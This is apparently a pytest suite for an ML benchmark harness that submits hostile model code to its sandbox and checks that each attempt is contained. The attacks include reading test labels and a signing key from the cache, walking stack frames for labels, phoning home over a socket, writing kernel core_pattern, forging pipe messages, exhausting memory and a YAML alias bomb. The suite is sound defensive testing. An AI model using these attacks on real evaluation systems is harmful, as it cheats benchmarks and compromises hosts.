"""Hostile submissions: each attack is contained by the sandbox and recorded as failed.

Every attacker below is a working model plus one attack. The default (isolated) executor must
stop the attack, record the unit as failed with a clear category, and leave every other result
byte for byte as it was. Two attacks are also run in-process (``local``) to show they are real:
there they read the test labels and score AUROC 1.0.
"""

from __future__ import annotations

import hashlib
import json
import socket
import textwrap
import threading
from pathlib import Path

import pytest

from harness import config
from harness.cli.main import main

REPO = Path(__file__).resolve().parents[1]
DATASET = config.DEFAULT_DATASET
ARGS = ["--quick", "-t", "mortality_in_hospital", "-c", "base", "--encoder", "test_tiny",
        "--max-epochs", "2", "--no-cross-cohort", "--scenario", "cxr_missing_mcar"]  # fmt: skip

BASE_MODEL = """
import glob, os, socket, sys, time
import numpy as np
import torch
from torch import nn

CACHE = {cache!r}
PORT = {port!r}


class Model(nn.Module):
    def __init__(self, spec, hidden: int = 8):
        super().__init__()
        self.layer = nn.Linear(spec.ehr_summary_dim, hidden)
        self.head = nn.Linear(hidden, 1)
        {init}

    def forward(self, batch):
        {forward}
        return self.head(torch.relu(self.layer(batch.ehr_summary)))[:, 0]
"""

ATTACKS = {
    # read the cohort's labels from the cache on disk
    "read_label_file": dict(
        init="""
        import pandas as pd
        files = glob.glob(CACHE + "/cohorts/**/stays.parquet", recursive=True)
        if not files:
            raise FileNotFoundError("no cohort file visible under " + CACHE)
        import hashlib, hmac
        stays = pd.concat(pd.read_parquet(f) for f in files).drop_duplicates("stay_id")
        # batches carry keyed pseudonyms of the stay ids: the key sits in the cache too
        secret = open(CACHE + "/.keys/result-signing.key", "rb").read()
        scope = b"stay-id pseudonyms/mortality_in_hospital/base/1"
        key = hmac.new(secret, scope, hashlib.sha256).digest()
        code = lambda i: int.from_bytes(hashlib.blake2b(
            int(i).to_bytes(8, "little", signed=True), key=key, digest_size=7).digest(), "little")
        self.labels = {code(s): y for s, y in zip(stays.stay_id, stays.mortality_in_hospital)}
        """,
        forward="""
        if not self.training:
            y = torch.tensor([float(self.labels[int(s)]) for s in batch.stay_id])
            return (y * 2 - 1) * 20
        """,
        category="sandbox_denied",
    ),
    # walk the caller's frames to the harness's in-memory labels of the test stays
    "read_caller_frames": dict(
        init="",
        forward="""
        if not self.training:
            want = set(batch.stay_id.tolist())
            frame, keys = sys._getframe(1), []
            while frame is not None:  # ids may be pseudonyms: look for the key as well
                keys += [v for v in frame.f_locals.values() if isinstance(v, bytes)]
                frame = frame.f_back
            frame = sys._getframe(1)
            while frame is not None:
                for value in list(frame.f_locals.values()):
                    ids, y = getattr(value, "stay_id", None), getattr(value, "y", None)
                    if ids is None or y is None or len(y) != len(ids):
                        continue
                    table = dict(zip(np.asarray(ids).tolist(), np.asarray(y).tolist()))
                    for key in keys:
                        if want <= set(table):
                            break
                        from harness.executors.base import pseudonymise
                        coded = pseudonymise(value, key).stay_id.tolist()
                        table = dict(zip(coded, np.asarray(y).tolist()))
                    if want <= set(table):
                        lab = torch.tensor([float(table[s]) for s in batch.stay_id.tolist()])
                        return (lab * 2 - 1) * 20
                frame = frame.f_back
            raise LookupError("test labels not reachable from the caller's frames")
        """,
        category="error",
    ),
    # overwrite another entry's result
    "write_outside_scratch": dict(
        init="""
        target = CACHE + "/results/synthetic-default/ehr_lstm/result.json"
        with open(target, "w") as fh:
            fh.write("{}")
        """,
        forward="",
        category="sandbox_denied",
    ),
    # phone home
    "open_network_socket": dict(
        init="""
        socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"leak")
        """,
        forward="",
        category="sandbox_denied",
    ),
    "sleep_forever": dict(init="", forward="time.sleep(10**6)", category="timeout"),
    "allocate_without_bound": dict(
        init="",
        forward="""
        hoard = []
        while True:
            hoard.append(b"x" * (64 << 20))
        """,
        category="memory",
    ),
    # rewrite a host-wide kernel setting (core_pattern runs a program as root on a crash)
    "write_host_sysctl": dict(
        init="""
        with open("/proc/sys/kernel/core_pattern", "w") as fh:
            fh.write(open("/proc/sys/kernel/core_pattern").read())
        """,
        forward="",
        category="sandbox_denied",
    ),
    # fill the sandbox's file systems to exhaust the host's memory (tmpfs is RAM)
    "fill_tmpfs": dict(
        init="""
        for target in ("/dev/fill", "/fill", "/tmp/fill"):
            try:
                with open(target, "wb") as fh:
                    for _ in range(16):
                        fh.write(b"x" * (64 << 20))
            except PermissionError:
                continue
        """,
        forward="",
        category="sandbox_denied",
    ),
    # answer for the worker: an oversized message on every pipe it can find
    "forge_answers": dict(
        init="",
        forward="""
        if not self.training:
            import json, struct
            head = json.dumps({"ok": True, "arrays": [{"name": "p", "nbytes": 1 << 30}]}).encode()
            for fd in os.listdir("/proc/self/fd"):
                try:
                    os.write(int(fd), b"HXW1" + struct.pack(">Q", len(head)) + head)
                except OSError:
                    pass
            time.sleep(30)
        """,
        category="invalid_output",
    ),
    "sys_exit_zero": dict(init="", forward="sys.exit(0)", category="exited"),
    "os_exit_zero": dict(init="", forward="os._exit(0)", category="exited"),
    # publish (stay id, subject id, label) triples of the training set through an error message
    "exfiltrate_through_exception": dict(
        init="self.rows = []",
        forward="""
        if self.training:
            self.rows = [str(int(s)) + "," + str(int(s) // 10) + ",1" for s in batch.stay_id]
        else:
            raise RuntimeError("rows: " + "; ".join(self.rows[:165]) + " at /work/secret/x")
        """,
        category="error",
    ),
}


def _write_submission(folder: Path, name: str, init: str, forward: str, cache: Path, port: int,
                      limits: str = "") -> Path:  # fmt: skip
    folder.mkdir(parents=True)

    def block(code: str) -> str:
        return textwrap.indent(textwrap.dedent(code).strip(), " " * 8).lstrip() or "pass"

    (folder / "model.py").write_text(
        BASE_MODEL.format(cache=str(cache), port=port, init=block(init), forward=block(forward))
    )
    (folder / "submission.yaml").write_text(
        f"name: {name}\nversion: 1\nkind: torch\nentry: model:Model\ninputs: [ehr_summary]\n"
        f"tasks: [mortality_in_hospital]\ntrain: {{max_epochs: 2}}\n{limits}"
    )
    return folder


@pytest.fixture(scope="module")
def cache(tiny_pipeline_copy):
    """The session's tiny pipeline, copied (the module writes results), with the EHR reference
    evaluated on it."""
    with pytest.MonkeyPatch.context() as mp:
        mp.delenv("HARNESS_EXECUTOR", raising=False)
        assert main(["evaluate", "submissions/ehr_lstm", *ARGS]) == 0
        yield tiny_pipeline_copy


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the host's loopback that records every connection it receives."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    seen: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            seen.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


def _digest_tree(root: Path) -> dict[str, str]:
    return {
        str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def _result(cache: Path, name: str) -> dict:
    return json.loads((cache / "results" / DATASET / name / "result.json").read_text())


@pytest.mark.slow
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_is_contained_and_recorded(attack, cache, listener, tmp_path, monkeypatch):
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    monkeypatch.delenv("HARNESS_EXECUTOR", raising=False)
    port, seen = listener
    spec = ATTACKS[attack]
    limits = ""
    if attack == "sleep_forever":
        limits = "limits: {unit_seconds: 6}\n"
    if attack == "allocate_without_bound":
        limits = "limits: {memory_mb: 1200}\n"
    folder = _write_submission(
        tmp_path / attack, attack, spec["init"], spec["forward"], cache, port, limits
    )
    reference = cache / "results" / DATASET / "ehr_lstm"
    before = _digest_tree(reference)
    assert main(["evaluate", str(folder), *ARGS]) == 2
    record = _result(cache, attack)
    assert record["status"] == "failed"
    assert record["category"] == spec["category"], record
    assert _digest_tree(reference) == before  # no other result changed
    assert seen == []  # nothing reached the host's network
    if attack == "exfiltrate_through_exception":
        assert main(["leaderboard"]) == 0
        from harness.cohort import load_cohort

        ids = load_cohort("base").stays["stay_id"].astype(str)
        for path in (cache / "leaderboard").iterdir():
            text = path.read_text()
            assert not any(sid in text for sid in ids), path.name
            assert "/work/secret" not in text


@pytest.mark.slow
@pytest.mark.parametrize("attack", ["read_label_file", "read_caller_frames"])
def test_the_label_attacks_are_real_in_process(attack, cache, listener, tmp_path, monkeypatch):
    """Run trusted (in-process) the same attackers read the test labels: AUROC 1.0."""
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    spec = ATTACKS[attack]
    name = f"{attack}_trusted"
    folder = _write_submission(tmp_path / name, name, spec["init"], spec["forward"], cache, 0)
    assert main(["evaluate", str(folder), *ARGS, "--trusted"]) == 0
    auroc = _result(cache, name)["tasks"]["mortality_in_hospital"]["base"]["metrics"]["auroc"]
    assert auroc["value"] == pytest.approx(1.0)


@pytest.mark.slow
def test_a_reference_name_cannot_be_claimed(cache, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    folder = _write_submission(tmp_path / "impostor", "ehr_lstm", "", "", cache, 0)
    reference = cache / "results" / DATASET / "ehr_lstm"
    before = _digest_tree(reference)
    assert main(["evaluate", str(folder), *ARGS]) == 2
    assert "reserved for the reference submission" in " ".join(capsys.readouterr().err.split())
    assert main(["evaluate", str(folder), *ARGS, "--replace"]) == 2  # not even with --replace
    assert _digest_tree(reference) == before


@pytest.mark.slow
def test_an_entry_belongs_to_its_first_folder(cache, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    first = _write_submission(tmp_path / "a" / "mine", "mine", "", "", cache, 0)
    second = _write_submission(tmp_path / "b" / "mine", "mine", "", "", cache, 0)
    assert main(["evaluate", str(first), *ARGS]) == 0
    entry = cache / "results" / DATASET / "mine"
    before = _digest_tree(entry)
    assert main(["evaluate", str(second), *ARGS]) == 2
    assert "already belongs to another submission folder" in " ".join(
        capsys.readouterr().err.split()
    )
    assert _digest_tree(entry) == before
    assert main(["evaluate", str(second), *ARGS, "--replace"]) == 0


# --------------------------------------------------------------------------------------------
# Damaged predictions, full disks, bad task lists: one message, nothing lost


@pytest.mark.slow
def test_a_truncated_unit_file_is_set_aside_and_trained_again(cache, monkeypatch):
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    units = sorted((cache / "results" / DATASET / "ehr_lstm" / "predictions").rglob("*.parquet"))
    assert units
    good = units[0].read_bytes()
    units[0].write_bytes(good[: len(good) // 2])
    result_before = _result(cache, "ehr_lstm")["tasks"]
    assert main(["evaluate", "submissions/ehr_lstm", *ARGS]) == 0
    assert units[0].with_name(units[0].name + ".damaged").is_file()
    from harness.evaluate.units import read_unit

    read_unit(units[0])  # readable again, and the same numbers (same seed, same code)
    assert _result(cache, "ehr_lstm")["tasks"] == result_before


@pytest.mark.slow
def test_a_full_disk_is_one_message_and_exit_2(cache, tmp_path, monkeypatch, capsys):
    import errno

    import harness.evaluate.units as units

    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    folder = _write_submission(tmp_path / "diskfull", "diskfull", "", "", cache, 0)

    def full(path, data):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr(units, "atomic_write_bytes", full)
    before = _digest_tree(cache / "results" / DATASET / "ehr_lstm")
    assert main(["evaluate", str(folder), *ARGS, "--trusted"]) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "No space left on device" in err and "Fix: free disk space" in err
    assert "Traceback" not in err
    assert _digest_tree(cache / "results" / DATASET / "ehr_lstm") == before


def test_an_unknown_task_in_the_tasks_list_is_an_error(tmp_path):
    from harness.errors import SpecError
    from harness.models.submission import load_submission

    (tmp_path / "model.py").write_text("")
    (tmp_path / "submission.yaml").write_text(
        "name: x\nversion: 1\nkind: torch\nentry: model:M\ninputs: [ehr]\n"
        "tasks: [mortality_in_hospital, mortality_in_hopsital]\n"
    )
    with pytest.raises(SpecError, match=r"unknown task\(s\) \['mortality_in_hopsital'\]"):
        load_submission(tmp_path)


@pytest.mark.slow
def test_validate_runs_the_submission_in_the_sandbox(tmp_path, capsys):
    marker = tmp_path / "outside" / "written.txt"
    marker.parent.mkdir()
    init = f"open({str(marker)!r}, 'w').write('escaped')"
    folder = _write_submission(tmp_path / "sub", "validate_escape", init, "", tmp_path, 0)
    assert main(["validate", str(folder)]) == 2
    assert not marker.exists()
    out = " ".join(capsys.readouterr().out.split())
    assert "FileNotFoundError" in out or "Read-only" in out
    assert main(["validate", str(folder), "--trusted"]) == 0  # own code, own rights
    assert marker.read_text() == "escaped"


MEMO_MODEL = """
import torch
from torch import nn

SEEN = {}  # image embedding bytes -> label, kept by the process across units


class Model(nn.Module):
    def __init__(self, spec):
        super().__init__()
        self.head = nn.Linear(spec.ehr_summary_dim, 1)

    def fit_setup(self, train):
        for x, has, y in zip(train.cxr, train.has_cxr, train.y):
            if has > 0:
                SEEN[x.numpy().tobytes()] = float(y)

    def forward(self, batch):
        if not self.training:
            hits = sum(x.numpy().tobytes() in SEEN for x, h in zip(batch.cxr, batch.has_cxr) if h)
            if hits:
                raise RuntimeError(f"remembered {hits} test stays from an earlier unit")
        return self.head(batch.ehr_summary)[:, 0]
"""


@pytest.mark.slow
def test_a_worker_never_outlives_its_fold(cache, tmp_path, monkeypatch, capsys):
    """Fold 2's test stays train fold 1: a worker serving both could remember their labels."""
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    args = [*_fold_args("1,2"), "--cohort", "matched"]
    folder = _model_submission(tmp_path / "memo", "memo", MEMO_MODEL, "[ehr_summary, cxr]")
    assert main(["evaluate", str(folder), *args]) == 0  # sandboxed: nothing to remember
    capsys.readouterr()
    trusted = _model_submission(
        tmp_path / "memo_trusted", "memo_trusted", MEMO_MODEL, "[ehr_summary, cxr]"
    )
    assert main(["evaluate", str(trusted), *args, "--trusted"]) == 2  # in-process: it remembers
    assert "remembered" in " ".join(capsys.readouterr().err.split())


def _model_submission(folder: Path, name: str, code: str, inputs: str) -> Path:
    """A submission folder holding ``code`` as model.py (class Model), one task, one epoch."""
    folder.mkdir()
    (folder / "model.py").write_text(code)
    (folder / "submission.yaml").write_text(
        f"name: {name}\nversion: 1\nkind: torch\nentry: model:Model\ninputs: {inputs}\n"
        "tasks: [mortality_in_hospital]\ntrain: {max_epochs: 1}\n"
    )
    return folder


def _fold_args(folds: str) -> list[str]:
    """`ARGS` with explicit folds and seed 0 instead of --quick."""
    args = [a if a != "--quick" else "--folds" for a in ARGS]
    args.insert(args.index("--folds") + 1, folds)
    return [*args, "--seeds", "0"]


@pytest.mark.slow
def test_a_stderr_flood_does_not_grow_the_harness(cache, tmp_path, monkeypatch):
    import resource

    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    flood = "sys.stderr.write('x' * (64 << 20)); sys.stderr.flush()\n" * 6 + "sys.exit(3)"
    folder = _write_submission(tmp_path / "flood", "flood", flood, "", cache, 0)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert main(["evaluate", str(folder), *ARGS]) == 2
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100, f"the harness grew by {grown_mb:.0f} MB reading 384 MB of stderr"
    assert _result(cache, "flood")["category"] == "exited"


@pytest.mark.slow
def test_links_in_a_submission_folder_are_refused(tmp_path, cache):
    from harness.errors import SpecError
    from harness.models.submission import load_submission

    folder = _write_submission(tmp_path / "linked", "linked", "", "", cache, 0)
    (folder / "helper.py").symlink_to("/proc/self/pagemap")
    with pytest.raises(SpecError, match="helper.py is a link or a special file"):
        load_submission(folder)


KEYRING_MODEL = """
import ctypes, platform
import torch
from torch import nn

NR = {"x86_64": (248, 250), "aarch64": (217, 219)}[platform.machine()]  # add_key, keyctl
KEYCTL_SEARCH = 10
USER_KEYRING = -4
libc = ctypes.CDLL(None, use_errno=True)


class Model(nn.Module):
    def __init__(self, spec):
        super().__init__()
        self.head = nn.Linear(spec.ehr_summary_dim, 1)

    def fit_setup(self, train):
        found = libc.syscall(NR[1], KEYCTL_SEARCH, USER_KEYRING, b"user", b"harness-memo", 0)
        if found > 0:
            raise RuntimeError("read a key that an earlier worker left in the user keyring")
        if libc.syscall(NR[0], b"user", b"harness-memo", b"labels", 6, USER_KEYRING) < 0:
            raise OSError(ctypes.get_errno(), "add_key refused")

    def forward(self, batch):
        return self.head(batch.ehr_summary)[:, 0]
"""


@pytest.mark.slow
def test_kernel_keyrings_are_not_shared_between_workers(cache, tmp_path, monkeypatch, capsys):
    """Kernel state kept per user (the user keyring) must not carry data from fold to fold."""
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    folder = _model_submission(tmp_path / "keyring", "keyring", KEYRING_MODEL, "[ehr_summary]")
    args = _fold_args("1,2,3")
    rc = main(["evaluate", str(folder), *args])
    err = " ".join(capsys.readouterr().err.split())
    assert rc == 0, err  # each worker has a keyring of its own


def test_a_yaml_alias_bomb_is_refused_before_it_expands(tmp_path):
    from harness.errors import SpecError
    from harness.models.submission import load_submission

    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    (tmp_path / "model.py").write_text("")
    (tmp_path / "submission.yaml").write_text(
        "name: bomb\nkind: torch\nentry: model:M\ninputs: [ehr]\nparams:\n"
        + "\n".join("  " + line for line in lines)
        + "\nversion: *a8\n"  # 9^9 strings once expanded
    )
    with pytest.raises(SpecError, match="aliases"):
        load_submission(tmp_path)


@pytest.mark.slow
def test_memory_the_resident_set_does_not_show_is_still_limited(cache, tmp_path, monkeypatch):
    """A memfd holds memory outside the worker's RSS: the worker's cgroup counts it."""
    from harness.executors.isolated import WorkerCgroup

    probe = WorkerCgroup(100)
    if not probe.active:
        pytest.skip("this host lets the harness create no memory cgroup (limit is RSS only)")
    probe.remove()
    monkeypatch.setenv("HARNESS_CACHE", str(cache))
    init = """
    fd = os.memfd_create("ballast")
    for _ in range(40):
        os.write(fd, b"x" * (64 << 20))
    """
    folder = _write_submission(
        tmp_path / "memfd", "memfd", init, "", cache, 0, "limits: {memory_mb: 1024}\n"
    )
    assert main(["evaluate", str(folder), *ARGS]) == 2
    assert _result(cache, "memfd")["category"] == "memory"
